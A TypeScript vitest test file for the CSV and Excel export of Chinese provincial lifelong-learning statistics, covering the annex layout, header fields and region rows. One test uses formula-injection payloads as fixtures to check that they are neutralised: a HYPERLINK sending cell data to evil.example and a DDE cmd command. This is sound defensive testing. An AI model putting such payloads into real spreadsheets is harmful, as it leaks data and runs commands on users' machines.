import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { stats } from '../../i18n/zh-CN/stats.ts';
import { aggregateMoeTable } from './aggregate.ts';
import { annexLayout } from './annex.ts';
import { annexXlsxBuffer } from './annex-xlsx.ts';
import { annexCsv, regionsCsv } from './csv.ts';
import { sampleStats } from './fixtures.ts';
import { regionProgress } from './progress.ts';
import { sheetCells } from './test-support.ts';
import { readRegionData } from '../regions/data-files.ts';
import { contentForProvince } from '../regions/test-support.ts';

const CONTACT = { authority: '广东省教育厅', contact: '张三', department: '职业教育与终身教育处', officePhone: '020-12345678' };
const csvFor = (contact = {}) => annexCsv(annexLayout(aggregateMoeTable(sampleStats()), contact));
const cellsOf = (csv: string): string[][] => parse(csv.replace(/^\uFEFF/, ''));

describe('annexCsv: the 统计表 in the annex’s layout', () => {
  const csv = csvFor();

  it('starts with a byte-order mark and uses CRLF, so Excel reads the Chinese', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.split('\r\n').length).toBeGreaterThan(5);
    expect(csv.replace(/\r\n/g, '')).not.toContain('\n');
  });

  it('is the annex row by row: 附件, the title, the authority line, the header block, the kinds as columns', () => {
    // Figures by hand from src/lib/stats/fixtures.ts (see annex.test.ts); the annex's “” need no CSV quoting.
    expect(csv.slice(1).split('\r\n')).toEqual([
      '附件,,,,,,',
      '2023年全民终身学习活动开展情况统计表,,,,,,',
      '教育行政部门（盖章）：____________________,,,,,,',
      '联系人,,,,所在部门,,',
      '办公电话,,,,手机号码,,',
      '地市级及以上城市数,,21,,县级城市数,122,',
      '活动,,全民阅读,,,,全民终身学习活动周',
      ',,主题阅读活动,“社长（总编）荐书”活动,线上社会大讲堂,数字阅读分享活动,',
      '省级层面是否开展,,是,是,否,是,是',
      '地市级及以上城市开展情况,城市数,2,1,2,2,2',
      ',活动数,200,8,40,20,65',
      ',参加人次,55000,2000,160000,9500,80000',
      '县级城市开展情况,城市数,2,1,2,1,2',
      ',活动数,21,1,5,2,10',
      ',参加人次,5500,300,5900,400,5200',
      '',
    ]);
  });

  it('fills in the header block from the settings, where the workbook does', () => {
    const rows = cellsOf(csvFor(CONTACT));
    expect(rows[2]![0]).toBe(`教育行政部门（盖章）：${CONTACT.authority}`);
    expect(rows.slice(3, 5)).toEqual([
      ['联系人', '', CONTACT.contact, '', '所在部门', CONTACT.department, ''],
      ['办公电话', '', CONTACT.officePhone, '', '手机号码', '', ''],
    ]);
  });

  it('never hands Excel a formula from the settings: a contact that begins with = is shown, not run', () => {
    const hostile = { ...CONTACT, contact: '=HYPERLINK("http://evil.example/?"&A1,"点此")', officePhone: "=cmd|' /C calc'!A0" };
    const rows = cellsOf(csvFor(hostile));
    const cells = rows.flat().filter((cell) => cell.includes('HYPERLINK') || cell.includes('cmd|'));
    expect(cells).toEqual([`'${hostile.contact}`, `'${hostile.officePhone}`]);
    // The grid below the contact lines is as it was.
    expect(rows.slice(5)).toEqual(cellsOf(csvFor(CONTACT)).slice(5));
  });

  it('has the workbook’s cells in the workbook’s places, each merged cell’s text once in its top-left cell', async () => {
    for (const contact of [{}, CONTACT]) {
      const workbook = new ExcelJS.Workbook();
      const layout = annexLayout(aggregateMoeTable(sampleStats()), contact);
      await workbook.xlsx.load((await annexXlsxBuffer(layout, new Date('2023-11-30T10:00:00+08:00'))) as unknown as ArrayBuffer);
      expect(cellsOf(annexCsv(layout))).toEqual(sheetCells(workbook.worksheets[0]!));
    }
  });
});

/** The sample's latest 提交时间, which are all days: the day its figures are as of. */
const latestDay = sampleStats()
  .reports.map((r) => r.submittedAt)
  .sort()
  .at(-1)!;
const NOTE = '示例数据：数字为虚构';

describe('regionsCsv', () => {
  const lines = regionsCsv(regionProgress(sampleStats()), { asOf: latestDay, note: NOTE }).slice(1).split('\r\n');

  it('has a BOM, a header and one line per city and county', () => {
    expect(regionsCsv([]).startsWith('\uFEFF代码,名称,级别')).toBe(true);
    const kinds = Object.values(stats.activityKinds);
    expect(lines[0]).toBe(
      [
        '代码,名称,级别,所属地市,报送状态,报送日期,开幕式日期,活动数合计,参加人次合计',
        ...kinds.map((k) => `${k}：活动数,${k}：参加人次`),
        '数据截至,说明',
      ].join(','),
    );
    expect(lines.filter((l) => l !== '')).toHaveLength(1 + 21 + 122);
  });

  it('writes a reported county with its city, status and figures', () => {
    expect(lines.find((l) => l.startsWith('440303,'))).toBe(
      `440303,罗湖区,县级,深圳市,逾期报送,2023-11-27,,5,1300,0,0,0,0,3,900,2,400,0,0,${latestDay},${NOTE}`,
    );
    expect(lines.find((l) => l.startsWith('440100,'))).toBe(
      `440100,广州市,地市,,按时报送,2023-11-20,2023-11-18,213,215000,120,35000,8,2000,30,120000,15,8000,40,50000,${latestDay},${NOTE}`,
    );
  });

  it('leaves the figures of a region that has not reported empty, not zero', () => {
    expect(lines.find((l) => l.startsWith('441500,'))).toBe(`441500,汕尾市,地市,,未报送${','.repeat(14)},${latestDay},${NOTE}`);
  });

  it('says on every row, in its last two columns, the day the figures are as of and the file’s note, under one header row', () => {
    const rows = cellsOf(regionsCsv(regionProgress(sampleStats()), { asOf: latestDay, note: NOTE }));
    expect(rows[0]!.slice(-2)).toEqual(['数据截至', '说明']);
    expect(rows.slice(1).every((r) => r.length === rows[0]!.length && r.at(-2) === latestDay && r.at(-1) === NOTE)).toBe(true);
    // Without a note the column stays, empty, so that every year's file has the same columns.
    const plain = cellsOf(regionsCsv(regionProgress(sampleStats()), { asOf: latestDay }));
    expect(plain[0]).toEqual(rows[0]);
    expect(plain.slice(1).every((r) => r.at(-1) === '')).toBe(true);
  });
});

describe('regionsCsv of another kind of province', () => {
  afterEach(() => {
    vi.unstubAllEnvs();
    vi.resetModules();
  });

  async function linesFor(code: string): Promise<string[]> {
    vi.stubEnv('CONTENT_DIR', contentForProvince(code));
    vi.resetModules();
    const fresh = { csv: await import('./csv.ts'), progress: await import('./progress.ts') };
    const county = readRegionData(code).counties[0]!.code;
    const file = { ...sampleStats(), reports: [{ ...sampleStats().reports[0]!, region: county }] };
    return fresh.csv.regionsCsv(fresh.progress.regionProgress(file)).slice(1).split('\r\n');
  }

  it('has no 所属地市 column for a municipality (北京), whose districts have no city above them', async () => {
    const lines = await linesFor('110000');
    expect(lines[0]!.startsWith('代码,名称,级别,报送状态,')).toBe(true);
    expect(lines.filter((l) => l !== '')).toHaveLength(1 + readRegionData('110000').counties.length);
    expect(lines.every((l) => !l.includes('地市'))).toBe(true);
  });

  it('names 湖北’s 仙桃 … as 湖北省直辖, not as a city of 湖北省', async () => {
    const lines = await linesFor('420000');
    const data = readRegionData('420000');
    const direct = data.counties.filter((c) => c.parent === data.province.code);
    expect(direct.length).toBeGreaterThan(0);
    for (const county of direct)
      expect(lines.find((l) => l.startsWith(`${county.code},`))).toMatch(
        new RegExp(`^${county.code},${county.name},县级,湖北省直辖,`),
      );
  });
});
